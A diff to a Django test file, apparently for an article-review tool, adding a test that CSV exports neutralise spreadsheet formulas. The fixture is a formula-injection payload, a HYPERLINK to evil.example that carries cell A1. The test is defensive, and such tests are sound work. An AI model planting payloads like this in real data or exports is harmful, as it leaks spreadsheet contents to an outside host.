@@ -15,6 +15,7 @@ from django.utils import timezone
 
 from articles.agreement import blind
 from articles.agreement.models import DoubleReview
+from articles.models import Article
 from tests.builders import build_comparison
 
 from .conftest import ROLES, client_as, review_everything
@@ -78,6 +79,25 @@ def test_it_writes_the_same_figures_to_csv(client, accounts, ready):
     assert scopes == {"all", "pair", "outlet", "comparison", "category"}
     omission = next(r for r in rows if r["scope"] == "category" and r["name"] == "omission")
     assert omission["kappa"] == "1.0000"
+
+
+def test_it_writes_outlets_and_names_as_text_a_spreadsheet_never_runs(
+    client, accounts, double_review, first, second
+):
+    comparison = double_review.comparison
+    outlet = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    Article.objects.filter(pk=comparison.retranslation_id).update(outlet=outlet)
+    first.username = "@edna"  # Django's user names may start with @, + or -
+    first.save(update_fields=["username"])
+    review_everything(double_review, first, accept={1})
+    review_everything(double_review, second, accept={1})
+    response = client_as(client, accounts, "staff").get(CSV)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    names = {r["scope"]: r["name"] for r in rows if r["scope"] in ("outlet", "pair")}
+    assert names == {"outlet": "'" + outlet, "pair": "'@edna & otto"}
+    # The page shows them as they are, escaped.
+    page = client.get(PAGE).content.decode()
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page
 
 
 def test_it_shows_an_undefined_kappa_as_n_a(client, accounts, double_review, first, second):
